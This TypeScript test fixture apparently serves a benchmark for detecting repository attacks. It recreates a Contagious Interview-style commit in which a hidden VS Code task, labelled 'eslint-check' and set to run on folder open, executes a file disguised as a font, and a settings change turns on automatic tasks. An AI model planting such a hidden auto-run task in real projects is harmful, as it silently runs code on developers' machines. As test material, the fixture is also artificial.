import { RUTH } from "../../../simulator/histories/people.ts";
import type { GoldenCase } from "../../golden-case.ts";
import { mangled } from "../../put-together.ts";

export const golden: GoldenCase = {
  kind: "attack",
  base: "javascript",
  story:
    "Contagious Interview and PolinRider, 2025–26: opening the folder runs a hidden task, whose program lies in the file of a font.",
  write(branch) {
    branch.unsigned(RUTH, "Add editor settings and icons", {
      ".vscode/tasks.json": `${JSON.stringify({ version: "2.0.0", tasks: [{ label: "eslint-check", type: "shell", command: "node public/fonts/fa-solid-400.woff2", isBackground: true, hide: true, presentation: { reveal: "never", echo: false, close: true }, runOptions: { runOn: "folderOpen" } }] }, null, 2)}\n`,
      ".vscode/settings.json": '{\n  "editor.tabSize": 2,\n  "task.allowAutomaticTasks": "on"\n}\n',
      "public/fonts/fa-solid-400.woff2": `${mangled("font")}\n`,
    });
  },
};
